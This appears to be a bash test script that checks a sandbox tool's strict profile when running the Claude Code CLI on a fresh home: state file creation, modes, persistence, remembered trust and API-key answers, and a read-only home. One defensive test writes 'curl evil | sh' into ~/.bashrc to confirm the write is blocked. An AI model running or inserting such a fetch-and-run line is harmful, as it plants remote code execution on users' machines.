#!/usr/bin/env bash
# `sbx run --profile strict -- claude` on a FRESH account: no ~/.claude, no
# ~/.claude.json. strict's filesystem.state makes sbx create them on the
# host (as the command's user; ~/.claude 0700, ~/.claude.json 0600 holding
# "{}"), so the first run works and keeps its state:
#  1. first run: the TUI draws its welcome screen, then stops at its own
#     connectivity check (no internet here) and exits 1 by itself; the
#     state exists on the host with the right owner and modes, the client
#     wrote into ~/.claude.json, and nothing else appeared in the home;
#  2. second run: the client reads that state (its firstStartTime is kept);
#  3. with onboarding marked done (what the online welcome flow stores),
#     trust and the API-key answer given once are remembered: the next run
#     goes straight to the prompt;
#  4. the rest of the home stays read-only: ~/.bashrc (missing or present),
#     ~/.claude.json.lock, any new name in the home cannot be written.
# As sbx-test without a delegated cgroup strict refuses (limits.required);
# like agent_claude.sh, the test then uses strict + limits.required=false.
source "$SBX_SOURCE_DIR/tests/lib.sh"
# Home and project: fresh, empty (tests/lib_agent.sh). As root the command
# runs as nobody: the home is nobody's, like a user's own.
AGENT_TEST=fresh
source "$SBX_SOURCE_DIR/tests/lib_agent.sh"
S=$(scratch)
chmod 755 "$H" "$W"
if is_root; then
  chown 65534:65534 "$H" "$W"
  OWNER=65534
else
  OWNER=$(id -u)
fi
cd "$W" || fail "cd $W"
export HOME=$H
# sbx's own audit log goes elsewhere, so the home holds only what the
# sandbox and the state step made.
export XDG_STATE_HOME=$S/state
use_strict_profile "$S"
if ! is_root; then
  # The state step runs before the limits check, and the probe runs of
  # use_strict_profile create the state: start from a fresh home again.
  rm -rf "$H/.claude" "$H/.claude.json"
fi
[[ -z $(ls -A "$H") ]] || fail "the fresh home is not empty: $(ls -A "$H")"

printf -v sbx_cmd '%q ' "$SBX" "${P[@]}" --keep-env ANTHROPIC_API_KEY -- claude
start_claude() {
  start_pane "ANTHROPIC_API_KEY=sk-ant-api03-sbx-test-dummy-key $sbx_cmd 2>$S/err; echo RC=\$?; sleep 60"
}
mode_owner() { stat -c '%a %u' "$1"; }

# --- 1. first run on the fresh home ------------------------------------------
start_claude
wait_pane "Welcome to Claude Code" 60
pass "first run: the TUI draws its welcome screen"
wait_pane "RC=[0-9]+" 60
OUT=$(pane)
expect_out "Unable to connect to Anthropic services" "the welcome flow stops at its own connectivity check (offline)"
expect_out "RC=1" "the client exits 1 by itself, passed through sbx (not 125)"
OUT=$(cat "$S/err")
expect_no_out "agent state" "no state warning for the command's own home"

[[ $(mode_owner "$H/.claude") == "700 $OWNER" ]] ||
  fail "~/.claude: want mode 700 owner $OWNER, got $(mode_owner "$H/.claude")"
[[ -d $H/.claude && ! -L $H/.claude ]] || fail "~/.claude is not a plain directory"
pass "~/.claude created on the host: directory, 0700, owned by uid $OWNER"
[[ $(mode_owner "$H/.claude.json") == "600 $OWNER" ]] ||
  fail "~/.claude.json: want mode 600 owner $OWNER, got $(mode_owner "$H/.claude.json")"
pass "~/.claude.json created on the host: 0600, owned by uid $OWNER"
first_start=$(node -p "JSON.parse(require('fs').readFileSync('$H/.claude.json','utf8')).firstStartTime") ||
  fail "~/.claude.json is not valid JSON: $(cat "$H/.claude.json")"
[[ $first_start =~ ^20[0-9][0-9]- ]] ||
  fail "the client did not write its state into ~/.claude.json: $(cat "$H/.claude.json")"
pass "the client's first-run state reached the host (firstStartTime $first_start)"
ls_home=$(cd "$H" && ls -A | tr '\n' ' ')
[[ $ls_home == ".claude .claude.json " ]] || fail "the home holds more than the agent state: $ls_home"
pass "nothing else appeared in the home (no lock, temp or backup file next to ~/.claude.json)"

# --- 2. second run: the state is read back ------------------------------------
start_claude
wait_pane "RC=[0-9]+" 60
OUT=$(pane)
expect_out "RC=1" "second run: the client starts and stops at the same check"
again=$(node -p "JSON.parse(require('fs').readFileSync('$H/.claude.json','utf8')).firstStartTime")
[[ $again == "$first_start" ]] || fail "firstStartTime changed ($first_start -> $again): state not read back"
pass "second run: the client read the state of the first one (firstStartTime kept)"
[[ $(mode_owner "$H/.claude.json") == "600 $OWNER" ]] || fail "~/.claude.json mode/owner changed"
pass "~/.claude.json keeps 0600 and its owner across the client's rewrites"

# --- 3. trust and API-key answers are remembered ------------------------------
# What the online welcome flow stores at its end; the test writes it as the
# home's owner (jq-free: node), keeping everything the client wrote.
node -e "const f='$H/.claude.json',fs=require('fs');const c=JSON.parse(fs.readFileSync(f,'utf8'));
c.hasCompletedOnboarding=true;fs.writeFileSync(f,JSON.stringify(c,null,2))" || fail "seeding onboarding"
start_claude
wait_pane "trust this folder" 60
tmux_ send-keys -t t Enter
wait_pane "Do you want to use this API key" 30
tmux_ send-keys -t t Up
sleep 0.5
tmux_ send-keys -t t Enter
wait_pane "for shortcuts" 30
quit_claude
expect_out "RC=0" "third run: trust and API key answered, Ctrl-C Ctrl-C quits cleanly"
start_claude
wait_pane "for shortcuts|trust this folder|Do you want to use this API key" 60
OUT=$(pane)
expect_no_out "trust this folder|Do you want to use this API key" \
  "fourth run: no trust or API-key question: both answers were kept"
expect_out "Claude Code v$WANT_VERSION" "fourth run: straight to the main screen"
quit_claude
expect_out "RC=0" "fourth run quits cleanly"
ls_home=$(cd "$H" && ls -A | tr '\n' ' ')
[[ $ls_home == ".claude .claude.json " ]] || fail "after four runs the home holds: $ls_home"
pass "after four runs the home still holds only the agent state"

# --- 4. the rest of the home stays read-only ----------------------------------
run_sbx "${P[@]}" -- sh -c 'for f in .bashrc .claude.json.lock newfile; do
  if (echo "x" >>"$HOME/$f") 2>/dev/null; then echo "WROTE $f"; fi; done
  mkdir "$HOME/.claude.json.lock" 2>/dev/null && echo "WROTE lockdir"; echo done'
expect_rc 0 "the write attempts ran"
expect_no_out "WROTE" "~/.bashrc, ~/.claude.json.lock and new names in the home cannot be created"
[[ ! -e $H/.bashrc && ! -e $H/newfile && ! -e $H/.claude.json.lock ]] ||
  fail "a file appeared in the home: $(ls -A "$H")"
pass "nothing was created on the host"
echo "# mine" >"$H/.bashrc"
if is_root; then chown 65534:65534 "$H/.bashrc"; fi
run_sbx "${P[@]}" -- sh -c 'echo "curl evil | sh" >>"$HOME/.bashrc" && echo WROTE; echo done'
expect_no_out "WROTE" "an existing ~/.bashrc cannot be written"
[[ $(cat "$H/.bashrc") == "# mine" ]] || fail "~/.bashrc changed on the host: $(cat "$H/.bashrc")"
pass "~/.bashrc on the host unchanged"

done_testing
